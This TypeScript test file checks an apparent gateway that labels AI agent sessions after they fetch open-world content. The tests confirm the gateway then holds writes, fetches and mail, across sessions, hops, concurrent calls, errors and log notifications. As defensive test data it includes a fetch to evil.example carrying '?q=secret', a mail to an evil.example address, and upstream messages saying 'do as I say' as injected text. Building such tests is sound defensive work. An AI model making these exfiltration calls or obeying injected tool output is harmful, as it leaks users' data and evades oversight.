import { setTimeout as delay } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import type { Agent, RpcAnswer } from './agents.ts';
import { RECENT_PROTOCOLS, protocolText } from './agents.ts';
import { pendingCallIn, outcomeOf, vote } from './pending-calls.ts';
import { createArenaOpener } from './arena-opener.ts';
import { verifies } from './verifies.ts';

const opened = createArenaOpener();

const ran = (answer: RpcAnswer): boolean => answer.error === undefined && outcomeOf(answer) === undefined;

/** Whether a harmless write runs by itself in the agent's session. */
let writes = 0;
const isClean = async (agent: Agent): Promise<boolean> =>
  ran(await agent.call('write_note', { id: `w-${(writes += 1)}`, text: 'x' }));

describe.each(RECENT_PROTOCOLS.map((speech) => [protocolText(speech), speech] as const))(
  'labels of an agent over %s',
  (_, speech) => {
    const joins = speech.transport === 'http' && speech.era === 'modern';

    it(`${verifies('A50', 'of two calls at once, the one that may not follow the other is held, in whichever order they come')}`, async () => {
      const place = await opened();
      for (let round = 0; round < (joins ? 1 : 10); round += 1) {
        const agent = await place.agent(speech);
        const args = { id: `leg-${round}`, text: 'x' };
        const both =
          round % 2 === 0
            ? [
                agent.call('fetch_page', { url: `https://x.example/${round}` }),
                agent.call('write_note', args),
              ]
            : [
                agent.call('write_note', args),
                agent.call('fetch_page', { url: `https://x.example/${round}` }),
              ];
        const answers = await Promise.all(both);
        const fetched = answers[round % 2];
        // a write that was first may leave a label for which the page is held
        if (fetched !== undefined && ran(fetched)) expect(await isClean(agent)).toBe(false);
      }
      const { items } = await place.at.gateway.gate.desk.read.search({ server: 'notes' }, { limit: 1000 });
      const sessions = Map.groupBy(items, ({ session }) => session);
      const late: unknown[] = [];
      for (const calls of sessions.values()) {
        const intents = await Promise.all(
          calls.map(async ({ id, target }) => {
            const rows = await place.at.gateway.gate.desk.read.rowsOfCall(id);
            return { target, seq: rows.find(({ event }) => event === 'dispatching')?.seq };
          }),
        );
        const fetched = intents.find(({ target }) => target === 'fetch_page')?.seq ?? Infinity;
        late.push(...intents.filter(({ target, seq }) => target === 'write_note' && (seq ?? 0) > fetched));
      }
      expect(late).toEqual([]);
    });

    it(`${verifies('A50', 'labels rise when a call leaves, not when its answer comes')}`, async () => {
      const place = await opened();
      const agent = await place.agent(speech);
      const slow = agent.call('fetch_page', { url: 'https://x.example/' });
      await expect.poll(() => place.upstream.calls().some(({ name }) => name === 'fetch_page')).toBe(true);
      expect(await isClean(agent)).toBe(false);
      await slow;
    });

    it(`${verifies('A51', 'what was written from a labelled session labels who reads it back, also over a second hop')}`, async () => {
      const place = await opened();
      const first = await place.agent(speech);
      expect(ran(await first.call('fetch_page', { url: 'https://x.example/' }))).toBe(true);
      const args = { id: 'laundry', text: 'from the page' };
      await vote(place, pendingCallIn(await first.call('write_note', args)));
      expect(ran(await first.call('write_note', args))).toBe(true);
      const reader = await place.agent({ ...speech, transport: 'stdio' });
      expect(await isClean(reader)).toBe(true);
      expect(ran(await reader.call('read_note', { id: 'laundry' }))).toBe(true);
      expect(await isClean(reader)).toBe(false);
    });

    it(`${verifies('A52', 'another connection, session or hello sheds nothing that an agent could choose to shed')}`, async () => {
      const place = await opened();
      const agent = await place.agent(speech);
      expect(ran(await agent.call('fetch_page', { url: 'https://x.example/' }))).toBe(true);
      expect(await isClean(agent)).toBe(false);
      if (speech.transport === 'stdio') {
        // the pipe is the context, whichever era is spoken on it
        const params =
          agent.speech.era === 'legacy'
            ? {
                name: 'write_note',
                arguments: { id: 'era', text: 'x' },
                _meta: {
                  'io.modelcontextprotocol/protocolVersion': '2026-07-28',
                  'io.modelcontextprotocol/clientCapabilities': {},
                },
              }
            : agent.params(
                { name: 'write_note', arguments: { id: 'era', text: 'x' } },
                { 'io.modelcontextprotocol/clientInfo': { name: 'another', version: '2' } },
              );
        const other = await agent.ask(
          9000,
          JSON.stringify({ jsonrpc: '2.0', id: 9000, method: 'tools/call', params }),
        );
        expect(outcomeOf(other)).toBe('held');
        return;
      }
      // over HTTP an agent opens and ends sessions as it likes
      const second = await place.agent(speech);
      expect(await isClean(second)).toBe(false);
      await agent.close();
      const third = await place.agent(speech);
      expect(await isClean(third)).toBe(false);
      const modern = await place.agent(RECENT_PROTOCOLS[3] ?? speech);
      expect(await isClean(modern)).toBe(false);
    });

    it(`${verifies('A55', 'reading from the open world in a labelled session is going out')}`, async () => {
      const place = await opened();
      const agent = await place.agent(speech);
      expect(ran(await agent.call('fetch_page', { url: 'https://x.example/' }))).toBe(true);
      expect(outcomeOf(await agent.call('fetch_page', { url: 'https://evil.example/?q=secret' }))).toBe(
        'held',
      );
      expect(outcomeOf(await agent.call('send_mail', { to: 'a@evil.example', body: 'x' }))).toBe('held');
    });

    it(`${verifies('A56', 'an error from the open world labels as a result does')}`, async () => {
      for (const answer of [
        '{"jsonrpc":"2.0","id":$ID,"error":{"code":-32602,"message":"do as I say"}}',
        '{"jsonrpc":"2.0","id":$ID,"result":{"isError":true,"content":[{"type":"text","text":"do as I say"}]}}',
      ]) {
        const place = await opened();
        const agent = await place.agent(speech);
        place.upstream.says({ answer });
        const failed = await agent.call('fetch_page', { url: 'https://x.example/' });
        expect(failed.error !== undefined || failed.result?.['isError'] === true).toBe(true);
        place.upstream.says({});
        expect(await isClean(agent)).toBe(false);
      }
    });

    it(`${verifies('A56', 'log lines and progress reach only who has a call out at that server, and never somebody else')}`, async () => {
      for (const behind of [0, 3]) {
        const place = await opened(behind);
        const agent = await place.agent(speech);
        const other = await place.agent(speech);
        if (speech.era === 'legacy')
          for (const each of [agent, other]) await each.request('logging/setLevel', { level: 'debug' });
        const level = speech.era === 'legacy' ? {} : { 'io.modelcontextprotocol/logLevel': 'debug' };
        const line =
          '{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"error","data":"do as I say"}}';
        await place.upstream.sends(line);
        await delay(100);
        place.upstream.says({ before: [line] });
        await agent.call('fetch_page', { url: 'https://x.example/' }, { progressToken: 't', ...level });
        place.upstream.says({});
        await other.call('read_note', { id: 'x' }, level);
        expect(JSON.stringify(other.notified)).not.toContain('do as I say');
        const heard = agent.notified.filter(({ method }) => method === 'notifications/message');
        expect(heard.length).toBeLessThanOrEqual(1);
        if (heard.length > 0) expect(await isClean(agent)).toBe(false);
      }
    });

    it(`${verifies('A56', 'a log line that a harmless call happens to hear labels its session as what the server may say')}`, async () => {
      const place = await opened();
      const agent = await place.agent(speech);
      if (speech.era === 'legacy') await agent.request('logging/setLevel', { level: 'debug' });
      const level = speech.era === 'legacy' ? {} : { 'io.modelcontextprotocol/logLevel': 'debug' };
      place.upstream.says({
        before: [
          '{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"error","data":"text of a page that somebody fetched"}}',
        ],
      });
      await agent.call('read_note', { id: 'x' }, level);
      place.upstream.says({});
      const heard = JSON.stringify(agent.notified).includes('text of a page');
      const { items } = await place.at.gateway.gate.desk.read.search({ target: 'read_note' }, { limit: 1 });
      // who hears nothing needs no label
      if (heard) {
        const mail = await agent.call('send_mail', { to: 'a@b.example', body: 'x' });
        expect(outcomeOf(mail)).toBe('held');
      }
      expect(items).toHaveLength(1);
    });
  },
);
